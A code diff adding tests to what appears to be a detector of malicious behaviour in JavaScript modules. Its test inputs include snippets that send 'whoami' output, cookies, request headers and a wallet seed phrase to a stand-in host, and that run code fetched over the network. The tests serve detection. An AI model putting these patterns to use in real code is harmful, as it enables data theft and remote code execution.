@@ -142,4 +142,96 @@ test('functions that call each other without end come to an end', () => {
   assert.is(readJs(text, 'a.js').problem, undefined)
 })
 
+const acts = (text: string, kind: string) => readJs(text, 'a.js').signals.filter((one) => one.kind === kind)
+
+test('modules in the dress of other modules are the same modules', () => {
+  const helper = `var z = (m, n) => { var t = Object.create(null); for (let k of Object.keys(m)) Object.defineProperty(t, k, { get: () => m[k] }); return n || !m.__esModule ? Object.defineProperty(t, 'default', { value: m }) : t }`
+  assert.is(acts(`${helper}; var h = z(require('https')); h.get('https://a.invalid/x')`, 'network/request').length, 1)
+  assert.is(
+    acts(`var z = (m) => ({ a: 1 }); var h = z(require('https')); h.get('https://a.invalid/x')`, 'network/request')
+      .length,
+    0,
+  )
+})
+
+test('who the machine and its user are, told by a program', () => {
+  const from = (command: string) =>
+    acts(`require('child_process').exec('${command}', (e, out) => fetch('https://a.invalid/' + out))`, 'flow/send')[0]
+      ?.args['from']
+  assert.equal(from('whoami && id'), ['output', 'user'])
+  assert.equal(from('git --version'), ['output'])
+})
+
+test('a function that asks for the kind of a module and gives another hides nothing', () => {
+  const text = `const f = (m, c) => { if (m.__esModule) return m; return c }; f(require('path'), require('child_process')).exec('id')`
+  assert.is(acts(text, 'process/shell').length, 1)
+})
+
+test('a module below default, as rollup dresses it', () => {
+  const helper =
+    'function n(e) { var o = Object.create(null); Object.keys(e).forEach((k) => { o[k] = e[k] }); o.default = e; return Object.freeze(o) }'
+  assert.is(acts(`${helper} var h = n(require('https')); h.get('https://a.invalid/x')`, 'network/request').length, 1)
+})
+
+test('a key is told by what is done with it, and a signature tells nothing of it', () => {
+  const key = (text: string) => acts(text, 'flow/send').flatMap(({ args }) => args['names'])
+  const send = "fetch('https://a.invalid', { method: 'POST', body: "
+  assert.equal(key(`exports.f = (m) => { ${send} m }); return bip39.mnemonicToSeed(m) }`), ['key:m'])
+  assert.equal(
+    key(`exports.f = (m, b) => { ${send} require('crypto').createHmac('sha256', m).update(b).digest() }) }`),
+    [],
+  )
+  assert.equal(key(`exports.f = (m) => { ${send} m }); return other(m) }`), [])
+})
+
+test('requests of others are seen by who asks to see each, and what a chain says came from outside', () => {
+  const taken =
+    "require('axios').interceptors.request.use((c) => { fetch('https://a.invalid/', { body: c.headers }); return c })"
+  assert.equal(acts(taken, 'flow/send')[0]?.args['from'], ['intercepted'])
+  const contract =
+    "const { ethers } = require('ethers'); const c = new ethers.Contract('0x0', []); c.word().then((w) => require('child_process').exec(w))"
+  assert.equal(acts(contract, 'flow/run')[0]?.args['from'], ['network'])
+})
+
+test('a proxy that is written into the code, and one that is asked for', () => {
+  assert.is(acts("process.env.HTTPS_PROXY = 'http://203.0.113.1:8'", 'tamper/security').length, 1)
+  assert.is(acts('process.env.HTTPS_PROXY = process.env.https_proxy', 'tamper/security').length, 0)
+  assert.is(acts("process.env.HTTPS_PROXY = 'http://127.0.0.1:8'", 'tamper/security').length, 0)
+})
+
+test('a payment to an address in the code, and one to whom the caller says', () => {
+  const pay = (to: string) => `exports.f = (w, to) => w.signTransaction({ to: ${to}, value: 1 })`
+  assert.is(acts(pay("'0x1234567890aBcdEF1234567890aBcDeF12345678'"), 'wallet/pay').length, 0)
+  const own = (to: string) => `const w = require('web3'); new w().eth.accounts.signTransaction({ to: ${to}, value: 1 })`
+  assert.is(acts(own("'0x1234567890aBcdEF1234567890aBcDeF12345678'"), 'wallet/pay').length, 1)
+  assert.is(acts(own('process.argv[2]'), 'wallet/pay').length, 0)
+})
+
+test('a page whose store is posted, whether the request is opened or told', () => {
+  const sent = (text: string) => acts(text, 'flow/send')[0]?.args['host']
+  assert.is(
+    sent("const x = new XMLHttpRequest(); x.open('POST', 'https://a.invalid/'); x.send(document.cookie)"),
+    'a.invalid',
+  )
+  assert.is(
+    sent("new RTCPeerConnection({ iceServers: [{ urls: 'turn:a.invalid:1', username: document.cookie }] })"),
+    'a.invalid',
+  )
+  assert.is(sent('fetch(url, { body: document.cookie })'), '')
+})
+
+test('command lines in templates', () => {
+  assert.equal(commands("import { $ } from 'zx'; await $`curl -s https://a.invalid`"), [['curl -s https://a.invalid']])
+  assert.equal(commands("import { html } from 'lit'; html`curl -s https://a.invalid`"), [])
+})
+
+test('a text that begins empty is not known', () => {
+  const told = (add: string) =>
+    acts(
+      `require('https').get('https://a.invalid', (r) => { let d = ''; r.on('data', (c) => { ${add} }); require('child_process').exec(d) })`,
+      'flow/run',
+    )[0]?.args['program']
+  assert.is(told('d += c'), 'told')
+})
+
 test.run()
